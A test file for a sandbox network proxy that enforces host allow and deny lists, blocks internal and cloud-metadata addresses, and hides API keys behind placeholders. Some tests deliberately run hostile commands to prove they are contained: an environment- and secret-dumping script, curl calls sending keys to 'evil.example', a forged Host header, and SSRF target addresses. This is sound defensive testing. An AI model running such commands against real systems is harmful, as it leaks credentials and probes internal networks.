// The way out of a sandbox with real programs: curl, node and git as clients, real hosts on loopback.
import { execFileSync } from "node:child_process";
import { createReadStream, existsSync, mkdirSync, statSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterEach, describe, expect, test } from "vitest";
import {
  entries,
  type Host,
  hostAddress,
  openHost,
  openProxyStage,
  runBehind,
  type Stage,
  type StageOptions,
  testAuthority,
} from "../../../../../test/support/proxy-stage.ts";
import { verifies } from "../../../../../test/support/verifies.ts";
import { Credentials, type SandboxKey } from "./credentials.ts";

const open: { close(): Promise<void> }[] = [];
afterEach(async () => {
  for (const one of open.splice(0)) await one.close();
});
async function stage(options: StageOptions): Promise<Stage> {
  const opened = await openProxyStage(options);
  open.push(opened);
  return opened;
}
async function host(...given: Parameters<typeof openHost>): Promise<Host> {
  const opened = await openHost(...given);
  open.push(opened);
  return opened;
}
const curl = (...args: string[]): string[] => ["curl", "-sS", "--max-time", "10", ...args];

describe("a host that is allowed", () => {
  test("is reached by plain HTTP, through a tunnel and by SOCKS, and by the address that was looked at", async () => {
    verifies("S2.48");
    const web = await host((asked, reply) => reply.end(`web ${asked.headers.host} ${asked.url}`));
    const safe = await host((_asked, reply) => reply.end("safe"), { secure: "safe.example" });
    const behind = await stage({ allowed: ["web.example", "safe.example", hostAddress] });
    writeFileSync(path.join(behind.folder, "tests.pem"), testAuthority.cert);
    const plain = await runBehind(behind, curl(`http://web.example:${web.port}/a?b`));
    expect(plain).toMatchObject({ code: 0, out: `web web.example:${web.port} /a?b` });
    const tunnel = await runBehind(
      behind,
      curl("--cacert", "tests.pem", `https://safe.example:${safe.port}/`),
    );
    expect(tunnel).toMatchObject({ code: 0, out: "safe", err: "" });
    const socks = ["--proxy", behind.pass.env["ALL_PROXY"] ?? ""];
    expect(await runBehind(behind, curl(...socks, `http://web.example:${web.port}/s`))).toMatchObject({
      out: `web web.example:${web.port} /s`,
    });
    expect(behind.violations).toEqual([]);
    expect(web.connections()).toBe(2);
  });

  test("is reached by the socket in a private folder; whose request it is stands in the word of its pass", async () => {
    const web = await host((_asked, reply) => reply.end("there"));
    const behind = await stage({ allowed: ["web.example", hostAddress] });
    const { httpSocket } = behind.proxy;
    expect(statSync(path.dirname(httpSocket)).mode & 0o777).toBe(0o700);
    const by = (word: string, name: string) =>
      curl(
        "--noproxy",
        "",
        "--proxy",
        `socks5h://${word}localhost${httpSocket}`,
        `http://${name}:${web.port}/`,
      );
    const pass = behind.proxy.admit({ http: 1, socks: 1 });
    expect((await runBehind(behind, by("", "web.example"))).out).toBe("there");
    await runBehind(behind, by(`keel:${pass.word}@`, "other.example"));
    await runBehind(behind, by("", "nameless.example"));
    expect(pass.refused()).toEqual([{ kind: "network", target: `other.example:${web.port}` }]);
    expect(behind.violations.map(({ host: name, command }) => [name, command])).toEqual([
      ["other.example", "2"],
      ["nameless.example", ""],
    ]);
    await behind.proxy.close();
    expect(existsSync(path.dirname(httpSocket))).toBe(false);
  });
});

describe("a host that is not allowed", () => {
  test.each([
    ["by plain HTTP", (at: number) => curl(`http://other.example:${at}/`)],
    ["through a tunnel", (at: number) => curl("-p", `http://other.example:${at}/`)],
  ])("is refused %s with words, and told with the command's id", async (_, args) => {
    const web = await host((_asked, reply) => reply.end("there"));
    const behind = await stage({ allowed: ["web.example", hostAddress] });
    const { out, err } = await runBehind(behind, args(web.port));
    expect(out + err).toMatch(
      /other\.example:\d+ is not among the hosts that commands may reach|response 403/,
    );
    expect(web.connections()).toBe(0);
    expect(behind.violations).toEqual([
      { host: "other.example", port: web.port, command: "1", why: expect.stringContaining("allowedDomains") },
    ]);
  });

  test("is asked about where somebody can be asked: once for all that want it, and the answer counts", async () => {
    const web = await host((_asked, reply) => reply.end("there"));
    const asked: string[] = [];
    const behind = await stage({
      allowed: [hostAddress],
      ask: async ({ host: name }) => {
        asked.push(name);
        return name === "yes.example" ? "allow" : "deny";
      },
    });
    const all = await Promise.all(
      ["yes.example", "no.example", "yes.example", "no.example"].map((name) =>
        runBehind(behind, curl(`http://${name}:${web.port}/`)),
      ),
    );
    expect(all.map(({ out }) => out === "there")).toEqual([true, false, true, false]);
    expect(all[1]?.out).toContain("The user has not allowed no.example");
    expect(asked.toSorted()).toEqual(["no.example", "yes.example"]);
  });

  test("a question that nobody answers is a no, and may be put again", async () => {
    let times = 0;
    const behind = await stage({
      allowed: [],
      limits: { askMs: 50 },
      ask: () => {
        times += 1;
        return new Promise(() => undefined);
      },
    });
    for (const _ of [1, 2])
      expect((await runBehind(behind, curl("http://a.example/"))).out).toContain("not allowed");
    expect(times).toBe(2);
  });

  test("a deny wins over an allow, also for what is below the name", async () => {
    const behind = await stage({ allowed: ["*.example", "a.b.example"].slice(1), denied: ["b.example"] });
    expect((await runBehind(behind, curl("http://a.b.example/"))).out).toContain("is denied by b.example");
    expect(behind.lookedUp).toEqual([]);
  });

  test("a command that is not known gets nothing on a port that everybody can reach", async () => {
    const web = await host((_asked, reply) => reply.end("there"));
    const behind = await stage({ allowed: ["web.example", hostAddress] });
    for (const word of ["", "wrong"]) {
      const proxied = (scheme: string) => ["--proxy", `${scheme}://keel:${word}@127.0.0.1:${behind.port}`];
      const told = await runBehind(
        behind,
        curl(...proxied("http"), "-w", "%{http_code}", `http://web.example:${web.port}/`),
      );
      expect(told.out).toContain("407");
      const socks = await runBehind(behind, curl(...proxied("socks5h"), `http://web.example:${web.port}/`));
      expect(socks.code).not.toBe(0);
    }
    expect(web.connections()).toBe(0);
  });
});

describe("a name", () => {
  test("that leads inside is refused, whatever form the address has; one bad among good ones is enough", async () => {
    verifies("S2.48");
    const inward = [
      "127.0.0.1",
      "10.0.0.1",
      "169.254.169.254",
      "192.168.0.1",
      "0.0.0.0",
      "::1",
      "::ffff:127.0.0.1",
      "::ffff:7f00:2",
      "fe80::1",
      "fd00::1",
      "64:ff9b::7f00:1",
      "2002:7f00:1::",
      "::7f00:1",
    ];
    for (const address of inward) {
      const behind = await stage({
        allowed: ["web.example", "*.sub.example"],
        names: () => ["93.184.216.34", address],
      });
      for (const name of ["web.example", "a.sub.example"])
        expect((await runBehind(behind, curl(`http://${name}/`))).out, address).toContain("leads to");
    }
  });

  test("is resolved once for a request: an answer that changes leads nowhere", async () => {
    const good = await host((_asked, reply) => reply.end("good"));
    const bad = await host((_asked, reply) => reply.end("bad"), { address: "127.0.0.3", port: good.port });
    let answers = 0;
    const behind = await stage({
      allowed: ["web.example", hostAddress],
      names: () => [answers++ === 0 ? hostAddress : "127.0.0.3"],
    });
    expect((await runBehind(behind, curl(`http://web.example:${good.port}/`))).out).toBe("good");
    expect((await runBehind(behind, curl(`http://web.example:${good.port}/`))).out).toContain(
      "leads to 127.0.0.3",
    );
    expect(answers).toBe(2);
    expect(bad.connections()).toBe(0);
  });

  test("of this machine is reached only where it is named, and what a cloud tells its machines not even then", async () => {
    const web = await host((_asked, reply) => reply.end("there"), { address: "127.0.0.1" });
    const names = (name: string) => [name.startsWith("metadata") ? "169.254.169.254" : "127.0.0.1"];
    const at = (name: string) => curl("--noproxy", "", `http://${name}:${web.port}/`);
    const named = await stage({ allowed: ["localhost", "metadata.internal"], names });
    expect((await runBehind(named, at("localhost"))).out).toBe("there");
    expect((await runBehind(named, at("metadata.internal"))).out).toContain("link-local");
    const other = await stage({ allowed: ["web.example"], names });
    expect((await runBehind(other, at("localhost"))).out).toContain("is a name of a private network");
    expect((await runBehind(other, at("127.0.0.1"))).out).toContain("is a loopback address");
  });
});

test("a proxy of the person's own gets what commands say, as it is", async () => {
  const own = await host((asked, reply) => reply.end(`own proxy: ${asked.url}`), { address: "127.0.0.1" });
  const behind = await stage({ allowed: [], own: { http: own.port } });
  expect((await runBehind(behind, curl("http://any.example/x"))).out).toBe("own proxy: http://any.example/x");
});

const secrets = Array.from({ length: 20 }, (_, at) => `sk-live-${at}-${"abcdefgh".repeat(3)}${at * 7919}`);
const keysFor = (hosts: readonly string[], more: readonly SandboxKey[] = []): Credentials =>
  new Credentials([
    ...secrets.map(
      (secret, at): SandboxKey => ({
        name: `KEY_${at}`,
        secret,
        hosts: entries(hosts),
        place: { kind: "placeholder" },
      }),
    ),
    ...more,
  ]);

describe("a key", () => {
  test("reaches its own host and no other, and no command ever holds a byte of it", async () => {
    verifies("P44");
    const echo: Parameters<typeof openHost>[0] = (asked, reply) => {
      reply.setHeader("X-Echo", asked.headers.authorization ?? "");
      reply.end(JSON.stringify(asked.headers));
    };
    const own = await host(echo, { secure: "api.example" });
    const foreign = await host(echo, { secure: "evil.example" });
    const credentials = keysFor(["api.example"]);
    const behind = await stage({ allowed: ["api.example", "evil.example", hostAddress], credentials });
    const real = Object.fromEntries(secrets.map((secret, at) => [`KEY_${at}`, secret]));
    const beside = { ALSO: `url=https://x:${secrets[3]}@api.example/` };
    const script = [
      "env; cat /proc/self/environ; ps -ef 2>/dev/null; cat trust/* proxy/trust/* 2>/dev/null",
      ...secrets.flatMap((_, at) => [
        `curl -sS -i -H "Authorization: Bearer $KEY_${at}" https://api.example:${own.port}/${at}`,
        `curl -sS -i -k -u "me:$KEY_${at}" https://evil.example:${foreign.port}/${at}`,
      ]),
    ].join("\n");
    const variables = credentials.masked({ ...real, ...beside });
    const ran = await runBehind(behind, ["bash", "-c", script], variables);
    expect(ran.out.match(/HTTP\/1\.1 200 OK/g)).toHaveLength(40);
    const seen = ran.out + ran.err;
    for (const secret of secrets) expect(seen.includes(secret)).toBe(false);
    expect(seen).not.toContain("sk-live-");
    expect(own.seen.map(({ headers }) => headers.authorization)).toEqual(
      secrets.map((one) => `Bearer ${one}`),
    );
    const elsewhere = foreign.seen.map(({ headers }) =>
      Buffer.from((headers.authorization ?? "").slice(6), "base64").toString(),
    );
    expect(elsewhere).toHaveLength(20);
    expect(elsewhere.every((said) => /^me:keel_placeholder_[0-9a-f]{32}$/.test(said))).toBe(true);
  });

  test("goes with node's fetch and with git too, as a password, in a header of its own and in the query", async () => {
    verifies("P44");
    const said = (asked: { headers: Record<string, unknown>; url?: string | undefined }) =>
      [asked.headers["authorization"] ?? "", asked.headers["x-api-key"] ?? "", asked.url].join(" ");
    const api = await host((asked, reply) => reply.end(said(asked)), { secure: "api.example" });
    const behind = await stage({
      allowed: ["api.example", "git.example", hostAddress],
      credentials: new Credentials([
        {
          name: "API_KEY",
          secret: "s3cret-header",
          hosts: entries(["api.example"]),
          place: { kind: "header", name: "X-Api-Key", value: "{key}" },
        },
        {
          name: "QUERY_KEY",
          secret: "s3cret&query",
          hosts: entries(["api.example"]),
          place: { kind: "query", name: "key" },
        },
        {
          name: "GIT_TOKEN",
          secret: "s3cret-git",
          hosts: entries(["git.example"]),
          place: { kind: "placeholder" },
        },
      ]),
    });
    const program = `const r = await fetch("https://api.example:${api.port}/x?a=1&key=mine", { headers: { "x-api-key": process.env.API_KEY } }); console.log(await r.text());`;
    const fetched = await runBehind(behind, [process.execPath, "--input-type=module", "-e", program]);
    expect(fetched.err).toBe("");
    expect(api.seen.map(said)).toEqual([" s3cret-header /x?a=1&key=s3cret%26query"]);
    expect(fetched.out.trim()).toMatch(/^keel_placeholder_\w+ \/x\?a=1&key=keel_placeholder_\w+$/);

    const bare = path.join(behind.folder, "repo.git");
    const git = (...args: string[]) =>
      execFileSync("git", args, { stdio: "pipe", env: { ...process.env, HOME: behind.folder } });
    const work = path.join(behind.folder, "work");
    mkdirSync(work);
    git("init", "-q", work);
    writeFileSync(path.join(work, "a"), "from the repository");
    git("-C", work, "add", "a");
    git("-C", work, "-c", "user.name=k", "-c", "user.email=k@k", "commit", "-qm", "one");
    git("clone", "-q", "--bare", work, bare);
    git("-C", bare, "update-server-info");
    const wanted = `Basic ${Buffer.from("me:s3cret-git").toString("base64")}`;
    const site = await host(
      (asked, reply) => {
        if (asked.headers.authorization !== wanted) {
          reply.writeHead(401, { "WWW-Authenticate": "Basic" }).end();
          return;
        }
        const file = path.join(bare, (asked.url ?? "").replace(/^\/repo\.git\//, "").replace(/\?.*/, ""));
        if (existsSync(file) && statSync(file).isFile()) createReadStream(file).pipe(reply);
        else reply.writeHead(404).end();
      },
      { secure: "git.example" },
    );
    const cloned = await runBehind(behind, [
      "bash",
      "-c",
      `git clone -q "https://me:$GIT_TOKEN@git.example:${site.port}/repo.git" got && cat got/a`,
    ]);
    expect(cloned).toMatchObject({ code: 0, out: "from the repository" });
    expect(existsSync(path.join(behind.folder, "got/.git/config"))).toBe(true);
    execFileSync("sh", ["-c", `! grep -rq s3cret ${path.join(behind.folder, "got/.git")}`]);
  });

  test("is not given to a host that cannot prove who it is, nor by plain HTTP unless that is said", async () => {
    const impostor = await host((_asked, reply) => reply.end("mine now"), { secure: "other.example" });
    const plain = await host((asked, reply) => reply.end(asked.headers.authorization ?? ""));
    const credentials = keysFor(["api.example"]);
    const behind = await stage({ allowed: ["api.example", hostAddress], credentials });
    const told = await runBehind(behind, [
      "bash",
      "-c",
      `curl -sS -H "Authorization: Bearer $KEY_0" https://api.example:${impostor.port}/`,
    ]);
    expect(told.out).toContain("its certificate is not trusted");
    expect(impostor.seen).toEqual([]);
    const ask = [
      "bash",
      "-c",
      `curl -sS -H "Authorization: Bearer $KEY_0" http://api.example:${plain.port}/`,
    ];
    await runBehind(behind, ask);
    expect(plain.seen[0]?.headers.authorization).toMatch(/^Bearer keel_placeholder_/);
    const loud = await stage({ allowed: ["api.example", hostAddress], credentials, plainKeys: "given" });
    expect((await runBehind(loud, ask)).out).toMatch(/^keel_placeholder_|^Bearer keel_placeholder_/);
    expect(plain.seen[1]?.headers.authorization).toBe(`Bearer ${secrets[0]}`);
  });

  test("is not led to another site that answers at the same place", async () => {
    const api = await host((_asked, reply) => reply.end("there"), { secure: "api.example" });
    const behind = await stage({
      allowed: ["api.example", hostAddress],
      credentials: keysFor(["api.example"]),
    });
    const told = await runBehind(behind, [
      "bash",
      "-c",
      `curl -sS -H "Host: evil.example" -H "Authorization: Bearer $KEY_0" https://api.example:${api.port}/`,
    ]);
    expect(told.out).toContain('The request is for "evil.example", but the connection is to api.example');
    expect(api.seen).toEqual([]);
    expect(behind.violations).toMatchObject([{ host: "evil.example" }]);
  });
});
